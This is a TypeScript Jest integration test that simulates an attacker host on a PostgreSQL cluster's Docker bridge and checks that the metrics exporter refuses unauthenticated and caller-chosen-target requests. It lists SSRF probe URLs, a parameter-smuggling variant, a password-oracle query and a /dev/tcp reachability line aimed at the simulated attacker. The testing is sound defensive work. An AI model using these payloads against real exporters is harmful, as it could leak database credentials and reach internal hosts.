// Fault suite, the metrics exporter as an attacker sees it (issue 21 item 2). A simulated host: a
// network namespace this test creates, joined to the cluster's Docker bridge by a veth pair (an
// address of the cluster's subnet that Docker never hands out), running a fake PostgreSQL server
// that records every connection. From there, with no credentials and then with the scrape
// password, each attack the campaign found is refused, and no attempt reaches the fake server:
// - /metrics and /probe without credentials (401);
// - /probe?auth_module=…&target=<the fake server> (the exporter used to log in there, handing over
//   pgr_monitor's password), also smuggled as a re-encoded second parameter;
// - /probe?target=postgresql://postgres:<guess>@pg1… (a password oracle: pg_up 1 / 0);
// - /probe?target=127.0.0.1:22 (connect anywhere);
// while Prometheus' own request for a node, with the password, still scrapes it (pg_up 1).
// Own stack, subnet 172.29.101.0/24, ports 24432+.
import { ChildProcess, execFileSync, spawn } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { stackOutputs } from "../support/live-client";
import { deploy, docker, faultCluster, networkEndpoint, networkOf, teardown } from "../support/faults";

jest.setTimeout(300_000);

const C = faultCluster({
    stack: `fx${process.pid}`,
    subnet: "172.29.101.0/24",
    base: 24432,
    password: `fx-super-${process.pid}-Rd2`,
    replPassword: `fx-repl-${process.pid}-Mn5`,
    replicas: 1,
    config: ["syncMode=async", "pooler=false", "metrics=true"],
});
const NS = `pgr-fx${process.pid % 100000}`;
/** Lower half of the subnet (fixed addresses, none of them ours): Docker never assigns it. */
const ATTACKER = "172.29.101.100";
const FAKE_PORT = 5555;

let exporterIp = "";
let scrapePassword = "";
let fake: ChildProcess | undefined;
/** Where the fake server appends a line per connection, before it answers anything. */
const FAKE_LOG = path.join(os.tmpdir(), `pgr-fake-${process.pid}.log`);

/** Connections the fake server has received: read from its log, written before any answer goes back. */
function fakeConnections(): number {
    return (fs.readFileSync(FAKE_LOG, "utf8").match(/connection/g) ?? []).length;
}

function ip(args: string[]): void {
    execFileSync("ip", args, { stdio: "pipe", timeout: 10_000 });
}

/** The simulated host: a namespace on the cluster's bridge with its own address. */
async function createAttackerHost(): Promise<void> {
    const id = await docker(["network", "inspect", "-f", "{{.Id}}", networkOf(C)]);
    const bridge = `br-${id.slice(0, 12)}`;
    ip(["netns", "add", NS]);
    ip(["link", "add", `${NS}h`, "type", "veth", "peer", "name", `${NS}n`]);
    ip(["link", "set", `${NS}n`, "netns", NS]);
    ip(["link", "set", `${NS}h`, "master", bridge, "up"]);
    ip(["-n", NS, "addr", "add", `${ATTACKER}/24`, "dev", `${NS}n`]);
    ip(["-n", NS, "link", "set", `${NS}n`, "up"]);
    ip(["-n", NS, "link", "set", "lo", "up"]);
}

function removeAttackerHost(): void {
    for (const args of [
        ["link", "del", `${NS}h`],
        ["netns", "del", NS],
    ]) {
        try {
            ip(args);
        } catch {
            // already gone
        }
    }
}

/** A fake server on the simulated host that counts the connections it gets (bounded: the test kills it). */
function startFakeServer(): Promise<void> {
    const code =
        `const fs = require('fs'); const log = ${JSON.stringify(FAKE_LOG)};` +
        "require('net').createServer((s) => { fs.appendFileSync(log, 'connection\\n'); s.destroy(); })" +
        `.listen(${FAKE_PORT}, '0.0.0.0', () => process.stdout.write('listening\\n'))`;
    fs.writeFileSync(FAKE_LOG, "");
    fake = spawn("ip", ["netns", "exec", NS, process.execPath, "-e", code], { stdio: ["ignore", "pipe", "inherit"] });
    return new Promise((resolve, reject) => {
        fake!.stdout!.on("data", (b: Buffer) => {
            if (b.toString().includes("listening")) resolve();
        });
        fake!.on("error", reject);
        setTimeout(() => reject(new Error("the fake server did not listen within 10 s")), 10_000).unref();
    });
}

/** GET from the simulated host; the password goes to curl on stdin, never on a command line. */
function getFromAttacker(pathAndQuery: string, withPassword: boolean): { status: number; body: string } {
    const url = `http://${exporterIp}:9187${pathAndQuery}`;
    const out = execFileSync(
        "ip",
        ["netns", "exec", NS, "curl", "-s", "-m", "15", "-K", "-", "-w", "\n%{http_code}", "--globoff", url],
        { input: withPassword ? `user = "prometheus:${scrapePassword}"\n` : "", timeout: 20_000 },
    ).toString();
    const cut = out.lastIndexOf("\n");
    return { status: Number(out.slice(cut + 1)), body: out.slice(0, cut) };
}

describe(`fault: the metrics exporter refuses what it must (stack ${C.stack})`, () => {
    beforeAll(async () => {
        await teardown(C);
        removeAttackerHost();
        await deploy(C);
        exporterIp = (await networkEndpoint(`${C.stack}-metrics`, networkOf(C))).ip;
        scrapePassword = (await stackOutputs(C.stack)).metricsPassword;
        await createAttackerHost();
        await startFakeServer();
    }, 300_000);
    afterAll(async () => {
        fake?.kill("SIGKILL");
        fs.rmSync(FAKE_LOG, { force: true });
        removeAttackerHost();
        await teardown(C);
    }, 180_000);

    test("without credentials: 401 on /metrics and on a node's own /probe", () => {
        expect(getFromAttacker("/metrics", false).status).toBe(401);
        expect(getFromAttacker("/probe?auth_module=pgreplication&target=pg1:5432/postgres", false).status).toBe(401);
    });

    test("a caller-chosen target is refused, even with the password, and the fake server is never reached", async () => {
        // The fake server is reachable from the exporter's container: a refusal below is HAProxy's, not the network's.
        await docker(["exec", `${C.stack}-metrics`, "bash", "-c", `echo > /dev/tcp/${ATTACKER}/${FAKE_PORT}`]);
        expect(fakeConnections()).toBe(1);
        const attacks = [
            `/probe?auth_module=pgreplication&target=${ATTACKER}:${FAKE_PORT}/postgres`,
            // Smuggled: HAProxy and Go would read different first "target"s without the decoded whole-query match.
            `/probe?auth_module=pgreplication&targ%65t=${ATTACKER}:${FAKE_PORT}/postgres&target=pg1:5432/postgres`,
            `/probe?auth_module=pgreplication&target=pg1:5432/postgres&target=${ATTACKER}:${FAKE_PORT}/postgres`,
            `/probe?target=postgresql://postgres:guess@pg1:5432/postgres`,
            `/probe?target=127.0.0.1:22`,
            `/probe?auth_module=pgreplication&target=pg1:5432/postgres%26sslmode=disable`,
        ];
        for (const a of attacks) {
            const res = getFromAttacker(a, true);
            expect({ attack: a, status: res.status }).toEqual({ attack: a, status: 403 });
            expect(res.body).not.toMatch(/pg_up/);
        }
        expect(fakeConnections()).toBe(1);
    });

    test("with the password, a node of the cluster is scraped (what Prometheus asks)", () => {
        for (const node of ["pg1", "pg2"]) {
            const res = getFromAttacker(`/probe?auth_module=pgreplication&target=${node}:5432/postgres`, true);
            expect(res.status).toBe(200);
            expect(res.body).toMatch(/^pg_up 1$/m);
            // Prometheus encodes the target (url.Values.Encode): the same request, percent-encoded.
            const encoded = getFromAttacker(`/probe?auth_module=pgreplication&target=${node}%3A5432%2Fpostgres`, true);
            expect(encoded.body).toMatch(/^pg_up 1$/m);
        }
        expect(getFromAttacker("/metrics", true).status).toBe(200);
    });
});
